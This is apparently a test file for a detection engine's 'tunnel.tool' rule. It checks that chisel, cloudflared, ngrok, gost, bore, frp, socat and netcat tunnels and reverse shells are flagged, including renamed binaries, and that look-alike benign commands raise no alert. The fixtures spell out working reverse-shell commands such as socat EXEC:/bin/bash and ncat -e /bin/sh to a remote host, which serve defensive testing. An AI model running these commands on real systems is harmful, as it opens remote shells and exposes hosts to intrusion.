import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { EventV1 } from '@vigil/schema';
import { builtinEngine, exec, exeReference } from '../testing.js';

function alerts(...events: EventV1[]) {
  const { engine, alerts } = builtinEngine();
  engine.process(events);
  return alerts.map((a) => ({ rule: a.ruleId, severity: a.severity, reason: a.reason }));
}

const one = (argv: string[], severity: string, reason: RegExp, extra: EventV1[] = [], p = {}) => {
  const got = alerts(...extra, exec(argv, p));
  assert.equal(got.length, 1, `${argv.join(' ')}: ${JSON.stringify(got)}`);
  assert.equal(got[0]!.rule, 'tunnel.tool', argv.join(' '));
  assert.equal(got[0]!.severity, severity, `${argv.join(' ')}: ${got[0]!.reason}`);
  assert.match(got[0]!.reason, reason);
};

test('tunnel tools are known by their argument grammar whatever the binary is called', () => {
  one(
    ['/tmp/update', 'client', '10.1.2.3:8080', 'R:2222:localhost:22'],
    'critical',
    /chisel client to 10\.1\.2\.3:8080 with reverse tunnel R:2222:localhost:22, recognised by its arguments \(run as \/tmp\/update\)/,
  );
  one(['/tmp/s', 'server', '--port', '8080', '--reverse'], 'high', /chisel server accepting reverse tunnels/);
  one(['/tmp/cf', 'tunnel', 'run', '--token', 'eyJh'], 'high', /cloudflared tunnel run with an account token/);
  one(['cloudflared', 'tunnel', '--url', 'http://localhost:8888'], 'critical', /publishing http:\/\/localhost:8888/);
  one(['ngrok', 'tcp', '22'], 'critical', /ngrok publishing local 22 \(tcp\)/);
  one(['/home/u/.local/bin/agent', 'http', '8000', '--authtoken', 'x'], 'high', /ngrok publishing local 8000/);
  one(
    ['/tmp/g', '-L', 'tcp://:2222/127.0.0.1:22', '-F', 'relay+tls://10.1.2.3:443'],
    'high',
    /gost forwarding tcp:\/\/:2222\/127\.0\.0\.1:22 through relay\+tls:\/\/10\.1\.2\.3:443/,
  );
  one(
    ['gost', '-L', 'rtcp://:2222/127.0.0.1:22', '-F', 'relay+tls://10.1.2.3:443'],
    'critical',
    /gost reverse forwarding/,
  );
  one(['bore', 'local', '22', '--to', 'bore.pub'], 'critical', /bore publishing local port 22 on bore\.pub/);
  one(['/tmp/b', 'local', '8000', '--to', '10.1.2.3'], 'high', /bore publishing local port 8000 on 10\.1\.2\.3/);
});

test('socat and netcat: EXEC to a remote is critical, relays rank by where they listen and connect', () => {
  one(
    ['socat', 'TCP:10.1.2.3:4444', 'EXEC:/bin/bash,pty,stderr,setsid'],
    'critical',
    /running a program for a connection to 10\.1\.2\.3:4444/,
  );
  one(['socat', 'TCP:127.0.0.1:4444', 'EXEC:/bin/true'], 'high', /EXEC\/SYSTEM/);
  one(['socat', 'TCP-LISTEN:4444,fork', 'SYSTEM:sh'], 'critical', /listener on \*:4444/);
  one(
    ['ncat', '10.1.2.3', '4444', '-e', '/bin/sh'],
    'critical',
    /netcat handing \/bin\/sh a connection to 10\.1\.2\.3:4444/,
  );
  one(['ncat', '127.0.0.1', '4444', '-e', '/bin/sh'], 'high', /netcat handing/);
  one(['nc', '-lvnpe', '/bin/sh', '4444'], 'critical', /listener on \*/);
  one(
    ['socat', 'TCP-LISTEN:6007,bind=127.0.0.1,fork', 'TCP:127.0.0.1:6006'],
    'low',
    /relay from a listener on 127\.0\.0\.1:6007/,
  );
  one(['socat', 'TCP-LISTEN:6007,fork', 'TCP:127.0.0.1:6006'], 'medium', /listener on \*:6007 to 127\.0\.0\.1:6006/);
  one(['socat', 'TCP-LISTEN:2222,fork', 'TCP:10.1.2.3:22'], 'high', /to 10\.1\.2\.3:22/);
  one(['socat', 'TCP:10.1.2.3:443', 'TCP:127.0.0.1:22'], 'critical', /a reverse tunnel/);
});

test('a renamed socat known by hash: its grammar ranks it; alone it is medium', () => {
  const ref = exeReference('/usr/bin/socat', 'b'.repeat(64));
  one(
    ['/dev/shm/x', 'TCP:10.1.2.3:4444', 'EXEC:/bin/sh'],
    'critical',
    /by a copy of the host's socat \(sha256 bbbbbbbbbbbb…\)/,
    [ref],
    {
      exeHash: 'b'.repeat(64),
    },
  );
  one(['/dev/shm/x', '-V'], 'medium', /a copy of the host's socat .* with no tunnel in its arguments/, [ref], {
    exeHash: 'b'.repeat(64),
  });
});

test('a tunnel service domain in argv is high, for a renamed copy too', () => {
  one(
    ['curl', '-s', 'https://abc.trycloudflare.com/x'],
    'high',
    /tunnel service abc\.trycloudflare\.com in the command line of \/usr\/bin\/curl/,
  );
  one(
    ['/dev/shm/y', '-', 'OPENSSL:x.bore.pub:443'],
    'high',
    /tunnel service x\.bore\.pub in the command line of a copy of the host's socat/,
    [exeReference('/usr/bin/socat', 'b'.repeat(64))],
    { exeHash: 'b'.repeat(64) },
  );
});

test('ordinary commands that share words with tunnel grammars raise nothing', () => {
  assert.deepEqual(
    alerts(
      exec(['curl', '-L', 'https://github.com/org/repo/archive/main.tar.gz', '-o', 'x.tgz']),
      exec(['curl', '-L', '-F', 'file=@x', 'https://example.com:8443/up']),
      exec(['socat', '-', 'TCP:localhost:80']),
      exec(['socat', '-', 'PROXY:proxy.corp:%h:%p,proxyport=3128']),
      exec(['nc', '-z', 'localhost', '22']),
      exec(['python3', 'train.py', '--dist-url', 'tcp://10.0.0.1:23456', 'tcp:10.0.0.2:1']),
      exec(['python3', 'client.py', 'server', '--port', '8000']),
      exec(['cloudflared', '--version']),
      exec(['ngrok', 'version']),
    ),
    [],
  );
});

test("frpc's proxy subcommands are known by their grammar whatever the binary is called", () => {
  one(
    ['/tmp/netd', 'tcp', '-s', '10.1.2.3:7000', '-i', '127.0.0.1', '-l', '22', '-r', '6000'],
    'critical',
    /frp tcp proxy publishing local port 22 through 10\.1\.2\.3:7000 as port 6000 \(-s\/-l\/-r\), recognised by its arguments \(run as \/tmp\/netd\)/,
  );
  one(['/tmp/netd', 'tcp', '-s', '127.0.0.1:7000', '-l', '8080'], 'high', /frp tcp proxy publishing local port 8080/);
  // The same words without a server and a local port are no proxy.
  assert.deepEqual(alerts(exec(['/usr/bin/tool', 'tcp', '-l', '22'])), []);
});
